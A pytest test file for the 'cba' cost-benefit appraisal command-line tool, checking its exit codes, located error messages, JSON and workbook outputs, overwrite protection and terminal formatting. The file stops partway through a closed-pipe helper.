"""The ``cba`` command as a user runs it: exit codes, messages, and the files it writes.

A few checks run ``python -m cba`` as a subprocess (the real entry point, exit status and
stderr as a shell sees them); the rest call ``cba.cli.main`` in-process for speed.

Exit codes: 0 success, 2 invalid input (located messages, no traceback), 1 internal error.
"""

from __future__ import annotations

import hashlib
import io
import json
import math
import re
import shutil
import subprocess
import sys
from pathlib import Path
from typing import Any

import pytest

import cba
import cba.pipeline
from cba.cli import main
from cba.io.json_results import RESULTS_FORMAT
from cba.results import MEASURE_LABELS, MEASURE_UNITS

ROOT = Path(__file__).resolve().parent.parent
SCENARIO_DIR = ROOT / "scenarios"
SCENARIOS = sorted(SCENARIO_DIR.glob("*.yaml"))
INVALID = ROOT / "tests" / "invalid"
BASE_VALID = INVALID / "_base_valid.yaml"
ONE = SCENARIO_DIR / "green_corridor_cleanup.yaml"

LOCATED = re.compile(r"^(?P<file>.+?):(?P<line>\d+):(?P<col>\d+): (?P<path>\S+): \S", re.M)


@pytest.fixture(autouse=True)
def _wide_console(monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> None:
    """A wide console, so that rich does not fold long temporary paths in the output; and a
    private working folder, so default outputs (out/<id>.xlsx) never land in the repository."""
    monkeypatch.setenv("COLUMNS", "400")
    monkeypatch.chdir(tmp_path)


def cli(capsys: pytest.CaptureFixture[str], *args: str | Path) -> tuple[int, str, str]:
    """Run ``cba ARGS`` in-process; return (exit code, stdout, stderr)."""
    capsys.readouterr()  # drop anything captured before
    code = main([str(a) for a in args])
    captured = capsys.readouterr()
    return code, captured.out, captured.err


def cli_subprocess(*args: str | Path, cwd: Path) -> subprocess.CompletedProcess[str]:
    """Run ``python -m cba ARGS`` as a user would from a shell."""
    return subprocess.run(
        [sys.executable, "-m", "cba", *(str(a) for a in args)],
        cwd=cwd,
        capture_output=True,
        text=True,
        timeout=120,
        check=False,
    )


def flat(text: str) -> str:
    """Text with all runs of whitespace as one space (rich wraps long lines at 80 columns)."""
    return " ".join(text.split())


def load_json(path: Path) -> Any:
    return json.loads(path.read_text(encoding="utf-8"))


def scenario_id(path: Path) -> str:
    return cba.load_scenario(path).id


def with_version(tmp_path: Path, version: str) -> Path:
    """The minimal valid scenario, declaring scenario language ``version``."""
    text = BASE_VALID.read_text(encoding="utf-8")
    assert 'cba_scenario: "1.0"' in text
    path = tmp_path / f"version_{version.replace('.', '_')}.yaml"
    path.write_text(text.replace('cba_scenario: "1.0"', f'cba_scenario: "{version}"'), "utf-8")
    return path


def expected_value(value: Any) -> Any:
    """A figure as it must appear in JSON: NaN and infinity as null."""
    if isinstance(value, float) and not math.isfinite(value):
        return None
    return value


# --------------------------------------------------------------------------------------------
# python -m cba, end to end
# --------------------------------------------------------------------------------------------


def test_python_m_cba_runs_a_scenario(tmp_path: Path) -> None:
    target = tmp_path / "x.json"
    done = cli_subprocess("run", ONE, "--json", target, cwd=tmp_path)
    assert done.returncode == 0, done.stderr
    assert "Traceback" not in done.stderr
    assert "NPSV" in done.stdout
    assert load_json(target)["scenario_id"] == scenario_id(ONE)


def test_python_m_cba_invalid_file_exit_2_without_traceback(tmp_path: Path) -> None:
    bad = INVALID / "negative_amount.yaml"
    target = tmp_path / "x.json"
    done = cli_subprocess("run", bad, "--json", target, cwd=tmp_path)
    assert done.returncode == 2
    assert "Traceback" not in done.stderr
    assert f"{bad}:" in done.stderr
    assert "problem" in done.stderr
    assert "nothing was written" in flat(done.stderr)
    assert not target.exists()
    assert not (tmp_path / "out").exists()


def test_python_m_cba_missing_file(tmp_path: Path) -> None:
    done = cli_subprocess("run", "missing.yaml", cwd=tmp_path)
    assert done.returncode == 2
    assert "no such file" in done.stderr
    assert "missing.yaml" in done.stderr
    assert "Traceback" not in done.stderr
    assert not (tmp_path / "out").exists()


def test_python_m_cba_unwritable_target(tmp_path: Path) -> None:
    (tmp_path / "afile").write_text("I am a file, not a folder\n", encoding="utf-8")
    done = cli_subprocess("run", ONE, "--json", tmp_path / "afile" / "x.json", "-q", cwd=tmp_path)
    assert done.returncode == 2
    assert "Traceback" not in done.stderr
    assert done.stderr.startswith("cba: ")
    assert "afile" in done.stderr
    assert "cannot" in done.stderr
    assert (tmp_path / "afile").read_text(encoding="utf-8") == "I am a file, not a folder\n"


def test_python_m_cba_without_arguments_prints_usage(tmp_path: Path) -> None:
    done = cli_subprocess(cwd=tmp_path)
    assert done.returncode == 2
    assert done.stderr.startswith("usage: cba")
    assert "COMMAND" in done.stderr
    assert "Traceback" not in done.stderr


def test_python_m_cba_version(tmp_path: Path) -> None:
    done = cli_subprocess("--version", cwd=tmp_path)
    assert done.returncode == 0
    assert done.stdout.strip() == f"cba {cba.__version__}"


# --------------------------------------------------------------------------------------------
# cba run: the summary and the JSON results file
# --------------------------------------------------------------------------------------------


def test_run_one_scenario_prints_summary_and_writes_json(
    capsys: pytest.CaptureFixture[str], tmp_path: Path
) -> None:
    target = tmp_path / "x.json"
    code, out, err = cli(capsys, "run", ONE, "--json", target)
    assert code == 0, err
    scenario = cba.load_scenario(ONE)
    assert flat(scenario.title) in flat(out)
    assert "NPSV" in out
    assert target.is_file()
    assert f"results: {target}" in [line.strip() for line in out.splitlines()]


def test_run_json_provenance_and_format(capsys: pytest.CaptureFixture[str], tmp_path: Path) -> None:
    target = tmp_path / "x.json"
    code, _, err = cli(capsys, "run", ONE, "--json", target, "-q")
    assert code == 0, err
    doc = load_json(target)
    assert doc["cba_results"] == RESULTS_FORMAT
    provenance = doc["provenance"]
    assert provenance["scenario_sha256"] == hashlib.sha256(ONE.read_bytes()).hexdigest()
    assert provenance["scenario_file"] == ONE.name
    assert provenance["cba_version"] == cba.__version__
    assert provenance["command"] == f"cba run {ONE}"
    assert doc["units"]["measures"] == MEASURE_UNITS
    assert doc["units"]["lines"]["pv"].startswith("GBP")
    # No NaN or Infinity tokens: the file is strict JSON.
    json.loads(target.read_text(encoding="utf-8"), parse_constant=pytest.fail)


def test_run_quiet_prints_nothing(capsys: pytest.CaptureFixture[str], tmp_path: Path) -> None:
    code, out, err = cli(capsys, "run", ONE, "--json", tmp_path / "x.json", "-q")
    assert code == 0
    assert out == ""
    assert err == ""


@pytest.mark.parametrize("path", SCENARIOS, ids=[p.stem for p in SCENARIOS])
def test_run_json_figures_equal_the_api(
    capsys: pytest.CaptureFixture[str], tmp_path: Path, path: Path
) -> None:
    target = tmp_path / "x.json"
    code, _, err = cli(capsys, "run", path, "--json", target, "-q")
    assert code == 0, err
    doc = load_json(target)
    results = cba.run(cba.load_scenario(path))

    assert doc["scenario_id"] == results.scenario_id
    assert doc["counterfactual"] == results.counterfactual
    assert [o["option_id"] for o in doc["options"]] == [o.option_id for o in results.options]
    for option_doc, option in zip(doc["options"], results.options, strict=True):
        assert option_doc["is_counterfactual"] == option.is_counterfactual
        for basis in ("gross", "incremental"):
            measures = getattr(option, basis)
            figures = option_doc[basis]
            assert set(figures) == set(MEASURE_UNITS), (option.option_id, basis)
            for name, expected in measures.as_dict().items():
                entry = figures[name]
                where = (option.option_id, basis, name)
                assert set(entry) <= {"value", "unit", "label", "undefined"}, where
                assert entry["unit"] == MEASURE_UNITS[name], where
                assert entry["label"] == MEASURE_LABELS[name], where
                assert entry["value"] == expected_value(expected), where
                assert type(entry["value"]) is type(expected_value(expected)), where
                if entry["value"] is None:
                    assert entry["undefined"] == measures.undefined[name], where
                    assert entry["undefined"].strip(), where
                else:
                    assert "undefined" not in entry, where


def test_run_json_whole_document_equals_the_api(
    capsys: pytest.CaptureFixture[str], tmp_path: Path
) -> None:
    from cba.io.json_results import results_to_json
    from cba.io.workbook.package import content_digest

    target = tmp_path / "x.json"
    assert cli(capsys, "run", ONE, "--json", target, "-q")[0] == 0
    doc = load_json(target)
    expected = json.loads(results_to_json(cba.run(cba.load_scenario(ONE))))
    del doc["provenance"], expected["provenance"]
    # The JSON names the workbook written with it by its digests.
    book = (tmp_path / "out" / f"{scenario_id(ONE)}.xlsx").read_bytes()
    assert doc.pop("workbook") == {
        "content_digest": content_digest(book),
        "sha256": hashlib.sha256(book).hexdigest(),
    }
    assert doc == expected


def test_counterfactual_incremental_bcr_is_null_with_reason(
    capsys: pytest.CaptureFixture[str], tmp_path: Path
) -> None:
    target = tmp_path / "x.json"
    assert cli(capsys, "run", ONE, "--json", target, "-q")[0] == 0
    doc = load_json(target)
    (counterfactual,) = [o for o in doc["options"] if o["is_counterfactual"]]
    assert counterfactual["option_id"] == doc["counterfactual"]
    bcr = counterfactual["incremental"]["bcr_public"]
    assert bcr["value"] is None
    assert bcr["unit"] == "ratio"
    assert bcr["label"] == MEASURE_LABELS["bcr_public"]
    assert "undefined" in bcr["undefined"]
    assert "public costs is zero" in bcr["undefined"]
    # Against itself, its incremental PVs are all zero, defined, with no reason attached.
    npsv = counterfactual["incremental"]["npsv"]
    assert npsv == {"value": 0.0, "unit": "GBP, present value", "label": MEASURE_LABELS["npsv"]}
    # The other options' incremental BCR is a number.
    others = [o for o in doc["options"] if not o["is_counterfactual"]]
    assert others
    for option in others:
        assert isinstance(option["incremental"]["bcr_public"]["value"], float)


def test_run_twice_gives_byte_identical_json(
    capsys: pytest.CaptureFixture[str], tmp_path: Path
) -> None:
    target = tmp_path / "x.json"
    assert cli(capsys, "run", ONE, "--json", target, "-q")[0] == 0
    first = target.read_bytes()
    assert cli(capsys, "run", ONE, "--json", target, "-q")[0] == 0
    assert target.read_bytes() == first
    other = tmp_path / "elsewhere" / "y.json"
    assert cli(capsys, "run", ONE, "--json", other, "-q")[0] == 0
    assert other.read_bytes() == first
    assert first.endswith(b"}\n")


def test_run_folder_writes_one_file_per_scenario(
    capsys: pytest.CaptureFixture[str], tmp_path: Path
) -> None:
    folder = tmp_path / "results"
    code, out, err = cli(capsys, "run", SCENARIO_DIR, "--json", folder)
    assert code == 0, err
    ids = sorted(scenario_id(p) for p in SCENARIOS)
    assert len(ids) == len(SCENARIOS) >= 2
    assert sorted(p.name for p in folder.iterdir()) == sorted(f"{i}.json" for i in ids)
    for path in SCENARIOS:
        doc = load_json(folder / f"{scenario_id(path)}.json")
        assert doc["scenario_id"] == scenario_id(path)
        assert doc["provenance"]["scenario_sha256"] == hashlib.sha256(path.read_bytes()).hexdigest()
    assert flat(out).count("NPSV (community inputs valued)") == len(SCENARIOS)


def test_run_default_output_is_out_id_json(
    capsys: pytest.CaptureFixture[str], tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.chdir(tmp_path)
    code, _, err = cli(capsys, "run", ONE.resolve(), "-q")
    assert code == 0, err
    written = tmp_path / "out" / f"{scenario_id(ONE)}.json"
    assert sorted(p.name for p in (tmp_path / "out").iterdir()) == sorted(
        [written.name, written.with_suffix(".xlsx").name]
    )
    assert load_json(written)["scenario_id"] == scenario_id(ONE)


def suffixes(path: Path) -> tuple[str, ...]:
    """What cba run writes for the scenario at ``path``: JSON and workbook, and the strategy
    map's diagram (SVG and PNG) when it has one."""
    mapped = cba.load_scenario(path).strategy_map is not None
    diagrams = (".strategy-map.svg", ".strategy-map.png") if mapped else ()
    return (".json", ".xlsx", *diagrams)


def test_run_default_output_for_a_folder(
    capsys: pytest.CaptureFixture[str], tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.chdir(tmp_path)
    code, _, err = cli(capsys, "run", SCENARIO_DIR.resolve(), "-q")
    assert code == 0, err
    names = sorted(p.name for p in (tmp_path / "out").iterdir())
    assert names == sorted(f"{scenario_id(p)}{suffix}" for p in SCENARIOS for suffix in suffixes(p))


# --------------------------------------------------------------------------------------------
# cba run: invalid input writes nothing
# --------------------------------------------------------------------------------------------


def test_run_invalid_file_exit_2_located_problems_nothing_written(
    capsys: pytest.CaptureFixture[str], tmp_path: Path
) -> None:
    bad = INVALID / "negative_amount.yaml"
    target = tmp_path / "x.json"
    code, out, err = cli(capsys, "run", bad, "--json", target)
    assert code == 2
    match = LOCATED.search(err)
    assert match, err
    assert match["file"] == str(bad)
    assert int(match["line"]) > 0 and int(match["col"]) > 0
    assert match["path"].startswith("options[")
    assert "1 problem found" in err
    assert "Traceback" not in err
    assert "NPSV" not in out
    assert not target.exists()
    assert list(tmp_path.iterdir()) == []


def _mixed_folder(tmp_path: Path) -> Path:
    folder = tmp_path / "mixed"
    folder.mkdir()
    shutil.copy(BASE_VALID, folder / "a_valid.yaml")
    shutil.copy(INVALID / "negative_amount.yaml", folder / "b_invalid.yaml")
    return folder


def test_run_mixed_valid_and_invalid_writes_nothing(
    capsys: pytest.CaptureFixture[str], tmp_path: Path
) -> None:
    folder = _mixed_folder(tmp_path)
    results = tmp_path / "results"
    code, out, err = cli(capsys, "run", folder, "--json", results)
    assert code == 2
    assert "b_invalid.yaml:" in err
    assert "nothing was written" in flat(err)
    assert "NPSV" not in out
    assert not results.exists()


def test_run_mixed_with_keep_going_writes_the_valid_one(
    capsys: pytest.CaptureFixture[str], tmp_path: Path
) -> None:
    folder = _mixed_folder(tmp_path)
    results = tmp_path / "results"
    code, out, err = cli(capsys, "run", folder, "--json", results, "--keep-going")
    assert code == 2
    assert "b_invalid.yaml:" in err
    assert [p.name for p in results.iterdir()] == [f"{scenario_id(BASE_VALID)}.json"]
    doc = load_json(results / f"{scenario_id(BASE_VALID)}.json")
    assert doc["provenance"]["scenario_file"] == "a_valid.yaml"
    assert "NPSV" in out


def test_run_missing_file(capsys: pytest.CaptureFixture[str], tmp_path: Path) -> None:
    missing = tmp_path / "missing.yaml"
    code, _, err = cli(capsys, "run", missing, "--json", tmp_path / "x.json")
    assert code == 2
    assert f"{missing}: no such file" in err
    assert not (tmp_path / "x.json").exists()


def test_run_empty_folder_is_a_usage_error(
    capsys: pytest.CaptureFixture[str], tmp_path: Path
) -> None:
    code, _, err = cli(capsys, "run", tmp_path)
    assert code == 2
    assert err.startswith("cba: ")
    assert "no .yaml scenario files" in err


def test_run_duplicate_scenario_ids_refused(
    capsys: pytest.CaptureFixture[str], tmp_path: Path
) -> None:
    results = tmp_path / "results"
    code, _, err = cli(capsys, "run", ONE, ONE, "--json", results)
    assert code == 2
    assert scenario_id(ONE) in err
    assert "overwrite" in err
    assert not results.exists()


# --------------------------------------------------------------------------------------------
# cba run: replacing existing files
# --------------------------------------------------------------------------------------------


def test_run_refuses_to_replace_a_foreign_file(
    capsys: pytest.CaptureFixture[str], tmp_path: Path
) -> None:
    target = tmp_path / "x.json"
    target.write_text('{"my": "precious data"}\n', encoding="utf-8")
    code, out, err = cli(capsys, "run", ONE, "--json", target)
    assert code == 2
    assert err.startswith("cba: ")
    assert "was not written by cba" in flat(err)
    assert "--force" in err
    assert "Traceback" not in err
    assert "NPSV" not in out
    assert target.read_text(encoding="utf-8") == '{"my": "precious data"}\n'
    assert sorted(p.name for p in tmp_path.iterdir()) == ["x.json"]  # no temporary left


def test_run_refuses_a_non_json_foreign_file(
    capsys: pytest.CaptureFixture[str], tmp_path: Path
) -> None:
    target = tmp_path / "x.json"
    target.write_bytes(b"\x00\x01 not json at all")
    code, _, err = cli(capsys, "run", ONE, "--json", target, "-q")
    assert code == 2
    assert "was not written by cba" in flat(err)
    assert target.read_bytes() == b"\x00\x01 not json at all"


def test_run_force_replaces_a_foreign_file(
    capsys: pytest.CaptureFixture[str], tmp_path: Path
) -> None:
    target = tmp_path / "x.json"
    target.write_text('{"my": "precious data"}\n', encoding="utf-8")
    code, _, err = cli(capsys, "run", ONE, "--json", target, "--force", "-q")
    assert code == 0, err
    doc = load_json(target)
    assert doc["cba_results"] == RESULTS_FORMAT
    assert doc["scenario_id"] == scenario_id(ONE)


def test_run_replaces_an_existing_results_file_without_force(
    capsys: pytest.CaptureFixture[str], tmp_path: Path
) -> None:
    target = tmp_path / "x.json"
    other = SCENARIO_DIR / "balsall_heath_community_safety.yaml"
    assert cli(capsys, "run", other, "--json", target, "-q")[0] == 0
    assert load_json(target)["scenario_id"] == scenario_id(other)
    code, _, err = cli(capsys, "run", ONE, "--json", target, "-q")
    assert code == 0, err
    assert load_json(target)["scenario_id"] == scenario_id(ONE)


def test_run_folder_one_foreign_target_means_nothing_written(
    capsys: pytest.CaptureFixture[str], tmp_path: Path
) -> None:
    results = tmp_path / "results"
    results.mkdir()
    foreign = results / f"{scenario_id(SCENARIOS[-1])}.json"
    foreign.write_text("keep me\n", encoding="utf-8")
    code, _, err = cli(capsys, "run", SCENARIO_DIR, "--json", results, "-q")
    assert code == 2
    assert foreign.name in err
    assert [p.name for p in results.iterdir()] == [foreign.name]
    assert foreign.read_text(encoding="utf-8") == "keep me\n"


def test_run_unwritable_target(capsys: pytest.CaptureFixture[str], tmp_path: Path) -> None:
    (tmp_path / "afile").write_text("x\n", encoding="utf-8")
    code, out, err = cli(capsys, "run", ONE, "--json", tmp_path / "afile" / "x.json")
    assert code == 2
    assert err.startswith("cba: ")
    assert "afile" in err
    assert "is a file, not a folder" in flat(err)
    assert "Traceback" not in err
    assert "internal error" not in err
    assert "NPSV" not in out
    assert (tmp_path / "afile").read_text(encoding="utf-8") == "x\n"


# --------------------------------------------------------------------------------------------
# cba validate
# --------------------------------------------------------------------------------------------


def test_validate_all_examples(capsys: pytest.CaptureFixture[str]) -> None:
    code, out, err = cli(capsys, "validate", *SCENARIOS)
    assert code == 0, err
    assert err == ""
    assert out.splitlines() == [f"{p}: valid" for p in SCENARIOS]


def test_validate_folder(capsys: pytest.CaptureFixture[str]) -> None:
    code, out, _ = cli(capsys, "validate", SCENARIO_DIR)
    assert code == 0
    assert out.count(": valid") == len(SCENARIOS)


def test_validate_lists_every_problem_and_the_count(capsys: pytest.CaptureFixture[str]) -> None:
    bad = INVALID / "three_defects.yaml"
    header = bad.read_text(encoding="utf-8")
    expected_lines = [int(n) for n in re.findall(r"^# expect-line: (\d+)$", header, re.M)]
    assert len(expected_lines) == 3
    code, out, err = cli(capsys, "validate", bad)
    assert code == 2
    assert "valid" not in out
    located = [m for m in LOCATED.finditer(err) if m["file"] == str(bad)]
    assert sorted(int(m["line"]) for m in located) == sorted(expected_lines)
    assert "3 problems found" in err
    assert "Traceback" not in err


def test_validate_mixed_reports_valid_and_invalid(capsys: pytest.CaptureFixture[str]) -> None:
    bad = INVALID / "unknown_counterfactual.yaml"
    code, out, err = cli(capsys, "validate", ONE, bad)
    assert code == 2
    assert f"{ONE}: valid" in flat(out)
    assert f"{bad}:" in err
    assert "Did you mean 'do_nothing'?" in err


def test_validate_newer_minor_version_warns(
    capsys: pytest.CaptureFixture[str], tmp_path: Path
) -> None:
    path = with_version(tmp_path, "1.9")
    code, out, err = cli(capsys, "validate", path)
    assert code == 0
    assert f"{path}: valid" in flat(out)
    assert err.startswith("warning: ")
    assert "1.9" in err
    assert "newer" in flat(err).lower()


def test_run_newer_minor_version_warns_and_runs(
    capsys: pytest.CaptureFixture[str], tmp_path: Path
) -> None:
    path = with_version(tmp_path, "1.9")
    code, _, err = cli(capsys, "run", path, "--json", tmp_path / "x.json", "-q")
    assert code == 0
    assert "warning: " in err and "1.9" in err
    assert load_json(tmp_path / "x.json")["scenario_language"] == "1.9"


def test_validate_newer_major_version_refused(
    capsys: pytest.CaptureFixture[str], tmp_path: Path
) -> None:
    path = with_version(tmp_path, "2.0")
    code, out, err = cli(capsys, "validate", path)
    assert code == 2
    assert "valid" not in out
    assert f"{path}:" in err
    assert "cba_scenario" in err
    assert "2.0" in err
    assert "1 problem found" in err


# --------------------------------------------------------------------------------------------
# cba schema, --version, usage
# --------------------------------------------------------------------------------------------


def test_schema_prints_json_schema(capsys: pytest.CaptureFixture[str]) -> None:
    code, out, _ = cli(capsys, "schema")
    assert code == 0
    schema = json.loads(out)
    assert "json-schema.org" in schema["$schema"]
    assert "options" in schema["properties"]
    assert "options" in schema.get("required", [])


def test_schema_output_file_has_the_same_text(
    capsys: pytest.CaptureFixture[str], tmp_path: Path
) -> None:
    _, printed, _ = cli(capsys, "schema")
    target = tmp_path / "sub" / "schema.json"
    code, out, err = cli(capsys, "schema", "-o", target)
    assert code == 0
    assert out == ""
    assert str(target) in err
    assert target.read_text(encoding="utf-8") == printed


def test_committed_schema_is_up_to_date(capsys: pytest.CaptureFixture[str]) -> None:
    _, printed, _ = cli(capsys, "schema")
    committed = SCENARIO_DIR / "cba-scenario.schema.json"
    assert committed.read_text(encoding="utf-8") == printed, "run `make schema`"


def test_version(capsys: pytest.CaptureFixture[str]) -> None:
    with pytest.raises(SystemExit) as exit_info:
        main(["--version"])
    assert exit_info.value.code == 0
    assert capsys.readouterr().out.strip() == f"cba {cba.__version__}"


def test_no_arguments_is_a_usage_error(capsys: pytest.CaptureFixture[str]) -> None:
    with pytest.raises(SystemExit) as exit_info:
        main([])
    assert exit_info.value.code == 2
    err = capsys.readouterr().err
    assert err.startswith("usage: cba")
    assert "required" in err


def test_unknown_command_is_a_usage_error(capsys: pytest.CaptureFixture[str]) -> None:
    with pytest.raises(SystemExit) as exit_info:
        main(["frobnicate"])
    assert exit_info.value.code == 2
    assert "invalid choice" in capsys.readouterr().err


# --------------------------------------------------------------------------------------------
# Internal errors
# --------------------------------------------------------------------------------------------


def _broken_run(scenario: object) -> object:
    raise RuntimeError("simulated defect")


def test_internal_error_exit_1_suggests_debug(
    capsys: pytest.CaptureFixture[str], tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(cba.pipeline, "run", _broken_run)
    target = tmp_path / "x.json"
    code, _, err = cli(capsys, "run", ONE, "--json", target)
    assert code == 1
    text = flat(err)
    assert "internal error" in text
    assert "RuntimeError: simulated defect" in text
    assert "--debug" in text
    assert "Traceback" not in err
    assert not target.exists()


def test_internal_error_with_debug_prints_traceback(
    capsys: pytest.CaptureFixture[str], tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(cba.pipeline, "run", _broken_run)
    code, _, err = cli(capsys, "--debug", "run", ONE, "--json", tmp_path / "x.json")
    assert code == 1
    assert "Traceback (most recent call last)" in err
    assert "_broken_run" in err
    assert "RuntimeError: simulated defect" in err
    assert "internal error" in flat(err)


# --------------------------------------------------------------------------------------------
# Output of user text through rich: printed verbatim, one line per message
# --------------------------------------------------------------------------------------------


def test_title_with_square_brackets_is_printed_verbatim(
    capsys: pytest.CaptureFixture[str], tmp_path: Path
) -> None:
    text = BASE_VALID.read_text(encoding="utf-8")
    title = "Patrols [phase 2] and [/x] review"
    path = tmp_path / "brackets.yaml"
    text = re.sub(r"^title: .*$", f'title: "{title}"', text, flags=re.M)
    assert "    name: Resident patrols\n" in text
    text = text.replace("    name: Resident patrols\n", '    name: "Patrols [bold]pilot"\n')
    path.write_text(text, "utf-8")
    assert cba.load_scenario(path).title == title
    code, out, err = cli(capsys, "run", path, "--json", tmp_path / "x.json")
    assert code == 0, err
    assert title in flat(out)
    assert "Patrols [bold]pilot" in out
    assert load_json(tmp_path / "x.json")["title"] == title


def test_validate_prints_one_line_per_file_however_long_the_path(
    capsys: pytest.CaptureFixture[str], tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.delenv("COLUMNS")  # output to a pipe or file: rich assumes 80 columns
    deep = tmp_path / ("a_rather_long_folder_name_" * 4) / "scenario_with_a_long_name.yaml"
    deep.parent.mkdir()
    shutil.copy(BASE_VALID, deep)
    code, out, _ = cli(capsys, "validate", deep)
    assert code == 0
    assert out.splitlines() == [f"{deep}: valid"]


def test_several_scenarios_with_a_json_file_name_are_refused(tmp_path: Path) -> None:
    target = tmp_path / "r.json"
    code = main(["run", str(ROOT / "scenarios"), "--json", str(target), "-q"])
    assert code == 2
    assert not target.exists()


# --------------------------------------------------------------------------------------------
# Issue 7: output a user sees is never cut; one summary for several scenarios; -o is the
# output folder; a closed pipe is not an error; cba scale without a scale block
# --------------------------------------------------------------------------------------------

SCALE_EXAMPLE = SCENARIO_DIR / "volunteer_befriending_scale.yaml"


def captured_at_80_columns(*args: str | Path, cwd: Path) -> subprocess.CompletedProcess[str]:
    """``python -m cba ARGS`` with stdout captured (not a terminal), as in CI logs."""
    import os

    env = {**os.environ, "COLUMNS": "80"}
    return subprocess.run(
        [sys.executable, "-m", "cba", *(str(a) for a in args)],
        cwd=cwd,
        capture_output=True,
        text=True,
        timeout=300,
        check=False,
        env=env,
    )


def printed_tokens(text: str) -> set[str]:
    """Words, and every whole table cell (a figure of two words: "very high")."""
    cells = {cell.strip() for line in text.splitlines() for cell in re.split("[│┃]", line)}
    return set(re.split(r"[\s│┃]+", text)) | cells


def test_scale_at_80_columns_prints_every_figure_whole(tmp_path: Path) -> None:
    from cba.io.terminal import money, ratio
    from cba.scale_sweep import sweep_option

    done = captured_at_80_columns("scale", SCALE_EXAMPLE, cwd=tmp_path)
    assert done.returncode == 0, done.stderr
    assert "…" not in done.stdout
    scenario = cba.load_scenario(SCALE_EXAMPLE)
    (option,) = [o for o in scenario.options if o.scale is not None]
    curve = sweep_option(scenario, option.id, None)
    found = printed_tokens(done.stdout)
    for index in {0, curve.n0_index, curve.optimum_index, len(curve.points) - 1}:
        for figure in (
            f"{curve.points[index]:,.4g}",
            money(curve.npsv[index]),
            ratio(curve.bcr_public[index]),
            ratio(curve.bcr_public_and_community[index]),
        ):
            assert figure in found, (figure, done.stdout)
    assert money(min(curve.npsv)) in found  # the widest figure, e.g. -£2,215,502


def test_run_at_80_columns_prints_every_figure_whole(tmp_path: Path) -> None:
    from cba.io.terminal import _ROWS, _cell

    done = captured_at_80_columns("run", SCENARIO_DIR, "-o", tmp_path / "results", cwd=tmp_path)
    assert done.returncode == 0, done.stderr
    assert "…" not in done.stdout
    found = printed_tokens(done.stdout)
    for path in SCENARIOS:
        results = cba.run(cba.load_scenario(path))
        for option in results.options:
            if option.is_counterfactual:
                continue
            for name, kind in _ROWS:
                figure = _cell(option.incremental, name, kind)
                assert figure in found, (path.name, option.option_id, name, figure)


def test_run_several_scenarios_notes_once_and_one_closing_line(
    capsys: pytest.CaptureFixture[str], tmp_path: Path
) -> None:
    folder = tmp_path / "results"
    code, out, err = cli(capsys, "run", SCENARIO_DIR, "-o", folder)
    assert code == 0, err
    lines = [line.strip() for line in out.splitlines() if line.strip()]
    assert len(SCENARIOS) >= 2
    for fragment in (
        "DfT value-for-money categories by BCR over public costs:",
        "DfT value-for-money band boundaries are flagged VERIFY",
        "Optimism bias uses the confidence-grade table",
    ):
        assert sum(line.startswith(fragment) for line in lines) == 1, fragment
    discounting = [line for line in lines if line.startswith("Discounting:")]
    assert len(discounting) == len(set(discounting)) == 2  # the lower-rate example differs
    mapped = sum(len(suffixes(p)) - 2 for p in SCENARIOS)
    assert lines[-1] == (
        f"{len(SCENARIOS)} scenarios appraised; {2 * len(SCENARIOS) + mapped} files written "
        f"({len(SCENARIOS)} workbooks, {len(SCENARIOS)} JSON results, {mapped} diagram files) "
        f"in {folder}"
    )


def test_run_one_scenario_closing_line(capsys: pytest.CaptureFixture[str], tmp_path: Path) -> None:
    code, out, _ = cli(capsys, "run", ONE, "--json", tmp_path / "x.json", "-o", tmp_path / "b")
    assert code == 0
    assert out.splitlines()[-1] == (
        f"1 scenario appraised; 2 files written (1 workbook, 1 JSON results) in "
        f"{tmp_path / 'b'} and {tmp_path}"
    )
    assert flat(out).count("DfT value-for-money categories by BCR") == 1


def test_run_output_folder_holds_the_json_too(
    capsys: pytest.CaptureFixture[str], tmp_path: Path
) -> None:
    for scenarios, folder in (([ONE], tmp_path / "one"), ([SCENARIO_DIR], tmp_path / "all")):
        code, _, err = cli(capsys, "run", *scenarios, "-o", folder, "-q")
        assert code == 0, err
        ids = [scenario_id(p) for p in (SCENARIOS if scenarios == [SCENARIO_DIR] else [ONE])]
        chosen = SCENARIOS if scenarios == [SCENARIO_DIR] else [ONE]
        assert sorted(p.name for p in folder.iterdir()) == sorted(
            f"{scenario_id(p)}{suffix}" for p in chosen for suffix in suffixes(p)
        )
        assert len(ids) == len(chosen)
    assert not (tmp_path / "out").exists()


def test_run_json_option_still_decides_where_the_json_goes(
    capsys: pytest.CaptureFixture[str], tmp_path: Path
) -> None:
    code, _, err = cli(capsys, "run", ONE, "-o", tmp_path / "books", "--json", tmp_path / "res")
    assert code == 0, err
    assert [p.name for p in (tmp_path / "books").iterdir()] == [f"{scenario_id(ONE)}.xlsx"]
    assert [p.name for p in (tmp_path / "res").iterdir()] == [f"{scenario_id(ONE)}.json"]


def test_run_output_workbook_file_keeps_the_json_in_out(
    capsys: pytest.CaptureFixture[str], tmp_path: Path
) -> None:
    code, _, err = cli(capsys, "run", ONE, "-o", tmp_path / "book.xlsx", "-q")
    assert code == 0, err
    assert (tmp_path / "book.xlsx").is_file()
    assert [p.name for p in (tmp_path / "out").iterdir()] == [f"{scenario_id(ONE)}.json"]


def test_run_help_documents_where_outputs_go(capsys: pytest.CaptureFixture[str]) -> None:
    with pytest.raises(SystemExit):
        main(["run", "--help"])
    text = flat(capsys.readouterr().out)
    assert "-o FOLDER puts both the workbooks and the JSON results in FOLDER" in text
    assert "-o FILE.xlsx names the workbook and the JSON still goes to out/<id>.json" in text
    readme = flat((ROOT / "README.md").read_text(encoding="utf-8"))
    assert "`-o FOLDER` puts both" in readme


def test_scale_without_a_scale_block_points_to_the_docs(
    capsys: pytest.CaptureFixture[str],
) -> None:
    assert all(o.scale is None for o in cba.load_scenario(ONE).options)
    code, out, err = cli(capsys, "scale", ONE)
    assert code == 2
    assert out == ""
    assert "no option declares a `scale:` block" in flat(err)
    assert "docs/scale.md" in err
    assert "none" not in err


def closed_pipe_run(*args: str | Path, cwd: Path, unbuffered: bool = False) -> tuple[int, str]:
    """Run ``python -m cba ARGS`` with stdout a pipe whose reader has already gone (as when
    ``| head`` has read its lines and exited); return (exit status, stderr)."""
    import os

    env = {k: v for k, v in os.environ.items() if k != "PYTHONUNBUFFERED"}
